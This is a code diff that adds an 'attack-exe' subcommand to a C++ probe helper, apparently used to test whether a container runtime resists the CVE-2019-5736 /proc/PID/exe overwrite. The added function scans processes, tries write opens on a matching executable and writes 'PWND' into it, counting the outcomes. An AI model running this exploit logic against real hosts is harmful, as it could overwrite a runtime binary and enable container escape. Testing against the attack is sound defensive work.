@@ -17,6 +17,12 @@
 //   probe wait-signal [FILE]  block all signals, write FILE (if given), print "ready", then
 //                             print the name of the first signal received ("SIGTERM") and exit 0
 //   probe exec ARGS...        execvp(ARGS)
+//   probe attack-exe DEV INO STOP OUT
+//                             CVE-2019-5736 attacker: until file STOP exists, for every
+//                             visible pid opens /proc/PID/exe O_PATH; when that is the file
+//                             DEV:INO it tries O_WRONLY and O_RDWR opens (direct, and again
+//                             through the kept O_PATH fd) and writes "PWND" at offset 0 on
+//                             success; a last pass follows STOP. Writes JSON counts to OUT.
 //   probe syscall NR [ARG...] the raw syscall NR with up to 6 integer args (strtoull, any
 //                             base); prints "errno N" (N = 0 on success) and exits 0
 //
@@ -635,6 +641,70 @@ int cmd_mkdir(const std::string& path) {
     return 0;
 }
 
+// See the usage at the top (attack-exe).
+int cmd_attack_exe(char** argv) {
+    const auto dev = static_cast<dev_t>(std::stoull(argv[2]));
+    const auto ino = static_cast<ino_t>(std::stoull(argv[3]));
+    const std::string stop = argv[4];
+    long attempts = 0, write_opens = 0, hull_seen = 0, denied = 0, scans = 0;
+    std::map<std::string, long> errors;
+    std::vector<int> kept;
+    auto try_write = [&](const std::string& path) {
+        for (int flags : {O_WRONLY, O_RDWR}) {
+            ++attempts;
+            int w = ::open(path.c_str(), flags | O_CLOEXEC);
+            if (w < 0) {
+                ++errors[std::strerror(errno)];
+                continue;
+            }
+            ++write_opens;
+            (void)!::pwrite(w, "PWND", 4, 0);
+            ::close(w);
+        }
+    };
+    auto retry_kept = [&] {
+        for (int fd : kept)
+            try_write("/proc/self/fd/" + std::to_string(fd));
+    };
+    while (::access(stop.c_str(), F_OK) != 0) {
+        ++scans;
+        DIR* d = ::opendir("/proc");
+        if (!d) return fail("opendir /proc");
+        while (dirent* e = ::readdir(d)) {
+            char* end = nullptr;
+            long pid = std::strtol(e->d_name, &end, 10);
+            if (*end || pid <= 0 || pid == ::getpid()) continue;
+            std::string exe = std::string("/proc/") + e->d_name + "/exe";
+            int fd = ::open(exe.c_str(), O_PATH | O_CLOEXEC);
+            if (fd < 0) {
+                if (errno == EACCES || errno == EPERM) ++denied;
+                continue;
+            }
+            struct stat st {};
+            if (::fstat(fd, &st) != 0 || st.st_dev != dev || st.st_ino != ino) {
+                ::close(fd);
+                continue;
+            }
+            ++hull_seen;
+            try_write(exe);
+            if (kept.size() < 32)
+                kept.push_back(fd);
+            else
+                ::close(fd);
+        }
+        ::closedir(d);
+        retry_kept();
+    }
+    retry_kept(); // hull has exited by now: nothing runs the file any more
+    json errs = json::object();
+    for (const auto& [k, v] : errors)
+        errs[k] = v;
+    json out = {{"attempts", attempts},   {"write_opens", write_opens},
+                {"hull_seen", hull_seen}, {"denied", denied},
+                {"scans", scans},         {"errors", errs}};
+    return write_report(out, argv[5]);
+}
+
 int dispatch(int argc, char** argv) {
     std::string cmd = argc >= 2 ? argv[1] : "report";
     if (cmd == "report") return write_report(report(argc, argv), argc >= 3 ? argv[2] : nullptr);
@@ -708,6 +778,7 @@ int dispatch(int argc, char** argv) {
         return 2;
     }
     if (cmd == "wait-signal" && argc <= 3) return cmd_wait_signal(argc, argv);
+    if (cmd == "attack-exe" && argc == 6) return cmd_attack_exe(argv);
     if (cmd == "syscall" && argc >= 3 && argc <= 9) {
         long a[6] = {};
         for (int i = 3; i < argc; ++i)
